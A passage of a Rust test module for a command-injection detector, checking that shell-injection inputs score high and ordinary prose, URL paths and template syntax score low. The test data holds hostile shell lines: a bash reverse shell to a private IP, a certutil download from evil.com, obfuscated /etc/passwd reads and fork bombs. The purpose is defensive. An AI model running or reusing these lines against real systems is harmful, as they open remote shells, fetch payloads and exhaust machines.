            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "| powershell -enc ZQBjAGgAbwA=",
            "& w^h^o^a^m^i",
            "cmd=; certutil -urlcache -f http://evil.com/p.exe",
            "/usr/bin/perl -e 'print 1'",
            "Invoke-WebRequest http://example.com/file.ps1",
            ";ps",
            "for /f %i in (set) do command",
            "time ifconfig",
            "time; ansible all -m ping",
            "|$u wget test",
            "www.google.com;c$!at /et$!c/pas$!swd",
            "cmd=a; sh$XX -c whoami",
            "/etc/pas[s]wd",
            "$(cmd)",
            "IF /I NOT EXIST C:\\nonexistent echo hey",
            "if %n1% gtr %n2% echo bigger",
            "${PATH#{}/}",
            "python3.10 -c 'import os'",
        ] {
            let s = arg(&*d, v);
            assert!(s >= 0.7, "{v}: {s}");
        }
        assert!(score(&*d, Kind::Header, "referer", ";env") >= 0.7);
    }

    #[test]
    fn ignores_prose_with_separators_and_command_words() {
        let d = build();
        for v in [
            "Tom & Jerry; cat videos are the best",
            "Salt & pepper | more info inside",
            "I was sleeping; time flies",
            "Order #123; id 55 shipped",
            "find the best deals",
            "type here",
            "rock & roll",
            "C:\\Users\\Bob\\Documents",
            "echo chamber",
            "https://example.com/a/b?c=d",
            "If you exist, reply",
            "time to go",
            "I'd like to update my order - the union of both -- please help",
            "What? Why*? [note]",
            "Kids asleep; sleep 8 hours a night",
            "Hi; nc -- what does that mean",
            "Lunch; sleep 20 minutes after",
            "Revenue up 4%; net income -2%",
            "Forecast: sunny\nat night -3 degrees",
            "Documents:\nID card -2 copies",
            "Mon: run 5k; sleep 8",
            "Goals:\nsleep 7\nwater 2L",
            "Tried:\npip install foo --upgrade",
        ] {
            let s = arg(&*d, v);
            assert!(s < 0.7, "{v}: {s}");
        }
        let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";
        assert!(score(&*d, Kind::Header, "user-agent", ua) < 0.7);
    }

    #[test]
    fn url_paths_are_not_command_lines() {
        let d = build();
        for p in [
            "/admin/users",
            "/bin/items",
            "/usr/profile",
            "/api/v1/exec/status",
            "/tmp-files/list",
            "/etc/config-page",
            "/sbin/list",
            "/usr/bin/info",
            "/api/env",
            "/id",
            "/wget",
            "/api/v2/bash-scripts",
            "/tmp/uploads/file.txt",
        ] {
            let s = score(&*d, Kind::Path, "", p);
            assert!(s < 0.7, "{p}: {s}");
        }
        assert!(score(&*d, Kind::Path, "", "/cgi-bin/x;cat /etc/passwd") >= 0.7);
    }

    #[test]
    fn template_and_jquery_syntax_without_a_command_is_not_rce() {
        let d = build();
        for v in [
            "Hello ${name}, your order ${orderId} has shipped!",
            "You can use `$(document).ready(function() { ... })` in templates",
            "query($id: ID!) { user(id: $id) { name } }",
            "price: $(total) (incl. tax)",
            "const s = `${a}-${b}`;",
            "## Setup\n\n```bash\nnpm install\nnpm run build\n```\n",
            "```sh\nmake test\n```",
            "| cmd | what |\n|---|---|\n| `ls` | list |\n| `cd` | change dir |",
            "| Tool | Use |\n| :--- | ---: |\n| curl | fetch |\n| id | who |",
        ] {
            let s = arg(&*d, v);
            assert!(s < 0.7, "{v}: {s}");
        }
        for v in ["$(whoami)", "a;`uname -a`", "```whoami```"] {
            let s = arg(&*d, v);
            assert!(s >= 0.7, "{v}: {s}");
        }
    }

    #[test]
    fn a_lone_program_name_runs_nothing() {
        let d = build();
        for v in ["whoami", "curl", "python3", "ifconfig"] {
            let s = arg(&*d, v);
            assert!(s < 0.7, "{v}: {s}");
        }
    }

    #[test]
    fn flags_restricted_upload_names() {
        let d = build();
        for v in [
            ".boto",
            "mtrr",
            "acpi",
            "wp-config.php",
            "wp-config_php.txt",
            "config.yml ",
            ".bashrc",
            ".htaccess",
        ] {
            let s = score(&*d, Kind::Header, "x-filename", v);
            assert!(s >= 0.7, "{v}: {s}");
            assert!(score(&*d, Kind::Filename, "", v) >= 0.7, "{v}");
        }
        for v in [
            "abc.botox.jpg",
            "amtrra.jpg",
            "JACpic.jpg",
            "notes.txt",
            "holiday photo.jpg",
            "config-guide.pdf",
        ] {
            let s = score(&*d, Kind::Header, "x-filename", v);
            assert!(s < 0.7, "{v}: {s}");
        }
    }

    #[test]
    fn flags_entered_command_lines_and_shell_expansions() {
        let d = build();
        for v in [
            "ansible-vault decrypt secret\n",
            "'cscli' alerts list\n",
            "chef-vault -i secret\n",
            "curl example.com\n",
            "\\ls",
            "';htop'",
            "~+",
            "~-1",
            "!-1!-2",
            "if \"A A\" == \"A A\" echo same",
            ":(){ :|:& };:",
            "f(){ f|f& };f",
            "bomb() { bomb | bomb & }; bomb",
        ] {
            let s = arg(&*d, v);
            assert!(s >= 0.7, "{v}: {s}");
        }
        for v in [
            "python is a great first language\nand I love it\n",
            "node modules are heavy\n",
            "python for beginners\n",
            "docker is great\n",
            "thanks!\n",
            "~/projects",
            "!-important",
            "~5 minutes",
            "\\documentclass{article}",
            "If \"this\" works, great",
            "f(){ return 1; }; f",
            "function f(){ f(); }",
        ] {
            let s = arg(&*d, v);
            assert!(s < 0.7, "{v}: {s}");
        }
    }
}
